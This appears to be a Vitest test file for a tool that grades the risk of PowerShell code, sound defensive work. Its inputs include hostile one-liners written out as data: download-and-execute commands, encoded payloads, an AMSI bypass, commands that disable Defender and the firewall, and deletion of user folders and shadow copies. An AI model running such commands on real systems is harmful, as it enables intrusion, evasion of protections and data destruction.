import { describe, expect, it } from 'vitest'
import { analysePowerShell } from '../../../src/risk/powershell/analyse-powershell.ts'
import { analyseShell } from '../../../src/risk/shell/analyse-shell.ts'

/** What is found, as `level kind`, each once. */
const found = (code: string): string[] => [...new Set(analysePowerShell(code).map(({ level, kind }) => `${level} ${kind}`))]

/** Text as `-EncodedCommand` takes it. */
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const base64 = (text: string): string => Buffer.from(text).toString('base64')

describe('fetched and run', () => {
  it.each([
    ['a pipe', 'irm http://203.0.113.7/a | iex'],
    ['a pipe over lines', 'irm http://203.0.113.7/a |\n  iex'],
    ['an argument', "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"],
    ['an address in a variable', '$u = "http://203.0.113.7/a.txt"\n$c = (New-Object Net.WebClient).DownloadString($u)\n& ([ScriptBlock]::Create($c))'],
    ['a component', "$x = New-Object -ComObject MSXML2.XMLHTTP; $x.open('GET','http://203.0.113.7/a',$false); iex (irm http://203.0.113.7/a)"],
    ['out of the memory', '[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData("http://203.0.113.7/a.dll"))'],
    ['a file', 'Invoke-WebRequest `\n  -Uri http://203.0.113.7/a.exe `\n  -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe'],
    ['a file by a call', '$p = "$env:TEMP\\u.ps1"; iwr http://203.0.113.7/u.ps1 -OutFile $p; & $p'],
    ['a file of a service', 'Start-BitsTransfer -Source http://203.0.113.7/a.exe -Destination C:\\tools\\a.exe; C:\\tools\\a.exe /S'],
    ['an archive', '$p="$env:TEMP\\o.zip"; iwr https://openclaw-dl.pages.dev/o.zip -OutFile $p; Expand-Archive $p $env:TEMP\\o; & "$env:TEMP\\o\\setup.exe"'],
    ['a tool that is for something else', 'certutil -urlcache -split -f http://203.0.113.7/s.exe %TEMP%\\s.exe && start %TEMP%\\s.exe'],
    ['words that are taken apart', "I`E`X (irm ('htt' + 'p://203.0.113.7/a'))"],
    ['a vendor where nobody sees it', "Start-Process powershell -WindowStyle Hidden -ArgumentList 'iex (irm https://get.vendor-tools.com/i.ps1)'"],
  ])('%s', (_, code) => {
    expect(found(code)).toContain('error download-execute')
  })

  it.each([
    ['a vendor', 'irm https://get.vendor-tools.com/i.ps1 | iex', ['warning download-execute']],
    ['a known tool', 'irm https://astral.sh/uv/install.ps1 | iex', ['note download-execute']],
    ['a known tool, without a scheme', 'iwr -useb get.scoop.sh | iex', ['note download-execute']],
    ['a file that is only kept', 'Invoke-WebRequest -Uri http://203.0.113.7/data.csv -OutFile data.csv\nImport-Csv data.csv', []],
    ['an answer that is shown', '$r = Invoke-RestMethod https://api.vendor-tools.com/v1\n$r.items | Format-Table', []],
    ['a file that was there', 'Start-Process .\\setup.exe\n& "$PSScriptRoot\\build.ps1"', []],
    ['a comment', '# irm http://203.0.113.7/a | iex\n<# iex (irm http://203.0.113.7/b) #>\nGet-Process', []],
  ])('is no more than it is: %s', (_, code, verdicts) => {
    expect(found(code)).toEqual(verdicts)
  })

  it('is graded like the same in a shell', () => {
    for (const host of ['rover.apollo.dev/nix/latest', 'get.vendor-tools.com/x', '203.0.113.7/x', 'pastebin.com/raw/x', 'x.ngrok.io/i', 'x.vercel.app/i'])
      expect(found(`iwr 'https://${host}' | iex`)).toEqual(
        analyseShell(`curl -sSL https://${host} | sh`).flatMap(({ kind, level }) => (kind === 'download-execute' ? [`${level} ${kind}`] : [])),
      )
  })
})

describe('encoded', () => {
  it.each([
    ['a command', `powershell -NoProfile -enc ${utf16('irm http://203.0.113.7/a | iex')}`, ['error decode-execute', 'error download-execute']],
    [
      'a text',
      `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64('Remove-Item C:\\Users -Recurse -Force')}')))`,
      ['error decode-execute'],
    ],
    [
      'a variable',
      `$b = '${base64('Set-MpPreference -DisableRealtimeMonitoring $true')}'\n$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\niex $t`,
      ['error decode-execute', 'error disabled-protection'],
    ],
    ['letters by number', 'iex ([char]105+[char]101+[char]120+[char]32)', ['error decode-execute']],
    ['a placeholder', 'powershell -EncodedCommand <BASE64>\npowershell -enc $encoded', []],
    [
      'a text that is only read',
      `$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64('hello, world of texts')}'))\nWrite-Output $t`,
      [],
    ],
  ])('%s', (_, code, verdicts) => {
    expect(found(code)).toEqual(verdicts)
  })
})

describe('guards', () => {
  it.each([
    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'error disabled-protection'],
    ['Add-MpPreference -ExclusionPath C:\\', 'error disabled-protection'],
    ['netsh advfirewall set allprofiles state off', 'error disabled-protection'],
    [
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
      'error disabled-protection',
    ],
    ['vssadmin delete shadows /all /quiet', 'error destructive-command'],
    ['wbadmin delete catalog -quiet', 'error destructive-command'],
    ['Set-ExecutionPolicy Bypass -Scope Process -Force', 'note disabled-protection'],
  ])('%s', (code, verdict) => {
    expect(found(code)).toEqual([verdict])
  })

  it.each([
    'Set-MpPreference -DisableRealtimeMonitoring $false',
    'Get-MpPreference',
    'netsh advfirewall show allprofiles',
    'vssadmin list shadows',
    'Set-ExecutionPolicy RemoteSigned',
  ])('is quiet on %s', (code) => {
    expect(found(code)).toEqual([])
  })
})

it('says when a text is more than it analyses, and never throws or hangs', () => {
  const said: string[] = []
  analysePowerShell('# a\n'.repeat(250_001), { onLimit: (why) => said.push(why) })
  expect(said.join()).toMatch(/1,000,000/)
  for (const hostile of ['(', '"', '`\n', '{', '#', '<#', "iex '", '$a = $a;', 'irm http://a.b/ '])
    expect(() => analysePowerShell(hostile.repeat(20_000))).not.toThrow()
})
